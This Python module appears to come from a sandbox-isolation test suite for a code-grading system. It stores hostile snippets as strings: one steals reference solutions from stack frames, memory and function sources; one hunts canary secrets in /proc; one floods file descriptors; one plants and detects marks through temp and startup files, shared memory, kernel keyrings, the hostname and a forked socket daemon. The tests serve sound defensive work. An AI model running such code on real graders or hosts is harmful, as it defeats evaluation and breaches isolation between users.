"""Pieces of hostile source that several attacks share."""

FRAMES = '''
import json, os, struct

CASES = ["a row of numbers", "exactly zero", "single numbers", "a table of whole numbers", "a block of random numbers",
         "very large numbers", "the input stays as it was"]

def packed(data):
    return struct.pack(">I", len(data)) + data

def flood_bytes(data):
    """Write the bytes to every descriptor that is there."""
    for descriptor in range(3, 64):
        left = memoryview(data)
        try:
            os.set_blocking(descriptor, True)
            while left:
                left = left[os.write(descriptor, left):]
        except OSError:
            pass

def flood(messages):
    flood_bytes(b"".join(packed(json.dumps(message).encode()) for message in messages))
'''

SEARCH = '''
import glob, os, re, time

OWN = "CANARY-" + "0" * 32
SECRET = re.compile(b"CANARY" + b"-[0-9a-f]{32}")
STARTED, SEEN = time.monotonic(), set()

def report(data):
    """Print every canary in the data, once."""
    data = data.encode("utf-8", "replace") if isinstance(data, str) else data
    for found in set(SECRET.findall(data)) - SEEN:
        SEEN.add(found)
        print(found.decode())

def read(path):
    """The beginning of a file, whatever it is; nothing where that cannot be read at once."""
    try:
        descriptor = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
        try:
            return os.read(descriptor, 1 << 20)
        finally:
            os.close(descriptor)
    except (OSError, ValueError):
        return b""

def late():
    return time.monotonic() - STARTED > 2.5

def PROCESSES(name):
    return glob.glob(f"/proc/*/{name}")
'''

LOOT = '''
import ctypes, gc, inspect, linecache, os, sys, types

BOARD = (ctypes.c_char * 4096)(*b"." * 4096)
ADDRESS = ctypes.addressof(BOARD)
MINE = set()

def lent():
    """The functions that were lent: those in this namespace whose code is not from a cell."""
    found = [value for value in list(globals().values()) if isinstance(value, types.FunctionType)]
    return [function for function in found if "reference" in function.__code__.co_filename]

def loot():
    """The text of lent answers, from frames, from memory, from Python's own sources of source."""
    texts = []
    frame = sys._getframe()
    while frame is not None:
        texts += [value for value in frame.f_locals.values() if isinstance(value, str)]
        order = frame.f_locals.get("order")
        texts.append(str(order.get("stand_ins")) if isinstance(order, dict) else "")
        frame = frame.f_back
    for function in lent():
        try:
            texts.append(inspect.getsource(function))
        except (OSError, TypeError):
            pass
        texts.append(" ".join(map(str, function.__code__.co_consts + function.__code__.co_names)))
    for thing in gc.get_objects():
        if isinstance(thing, dict):
            texts += [text for text in list(thing.values()) if isinstance(text, str) and "BEGIN SOLUTION" in text]
    marked = [text for text in texts if "### BEGIN" + " SOLUTION" in text]
    text = max(marked or texts, key=len)
    return "".join(part.split("### END")[0] for part in text.split("### BEGIN" + " SOLUTION")[1:]) or text
'''

MARKS = '''
import ctypes, os, socket, sys

MARK = b"MARK-" + b"LEFT-BY-ANOTHER"
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
left = []

def look(place, action):
    """What is found at a place, if it is a mark."""
    try:
        if MARK in (action() or b""):
            left.append(place)
    except (OSError, ValueError, AttributeError):
        pass

def shared_memory(create):
    number = libc.shmget(777, 4096, 0o666 | (0o1000 if create else 0))
    return None if number < 0 else libc.shmat(number, None, 0)

def key(keyring):
    number = libc.syscall(250, 10, keyring, b"user", b"nn101-mark", 0)
    buffer = ctypes.create_string_buffer(100)
    libc.syscall(250, 11, number, buffer, 100)
    return buffer.raw

def answer():
    friend = socket.socket(socket.AF_UNIX)
    friend.settimeout(0.5)
    friend.connect(b"\\0nn101-mark")
    return friend.recv(100)

FILES = ["/tmp/mark", "/dev/shm/mark", "/tmp/ipython/profile_default/startup/mark.py", "/tmp/matplotlib/matplotlibrc",
         "/tmp/.local/lib/python3.11/site-packages/usercustomize.py", "/tmp/numba/mark", "/tmp/nn101/mark",
         "/course/mark", "/grader/mark", "/var/tmp/mark", "/dev/mqueue/mark", "/run/mark", "mark"]
for path in FILES:
    look(path, lambda: open(path, "rb").read(1000))
look("standard error", lambda: os.pread(2, 1 << 16, 0))
look("shared memory", lambda: ctypes.string_at(shared_memory(False), 100))
look("abstract socket", answer)
look("an object", lambda: getattr(np, "mark", b""))
look("the environment", lambda: os.environb.get(b"MARK", b""))
for keyring in (-2, -3, -4, -5):
    look(f"keyring {keyring}", lambda: key(keyring))
look("hostname", lambda: socket.gethostname().encode())
look("another process", lambda: b"".join(open(f"/proc/{pid}/cmdline", "rb").read() for pid in os.listdir("/proc")
                                         if pid.isdigit() and int(pid) != os.getpid()))
print("others left:", ", ".join(left) or "nothing")

for path in FILES:
    try:
        os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
        open(path, "wb").write(MARK)
    except OSError:
        pass
try:
    os.write(2, MARK)
except OSError:
    pass
place = shared_memory(True)
if place:
    ctypes.memmove(place, MARK, len(MARK))
for keyring in (-2, -3, -4, -5):
    libc.syscall(248, b"user", b"nn101-mark", MARK, len(MARK), keyring)
np.mark = os.environb[b"MARK"] = MARK
libc.sethostname(MARK, len(MARK))
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        server = socket.socket(socket.AF_UNIX)
        server.bind(b"\\0nn101-mark")
        server.listen()
        while True:
            server.accept()[0].sendall(MARK)
    os._exit(0)
'''
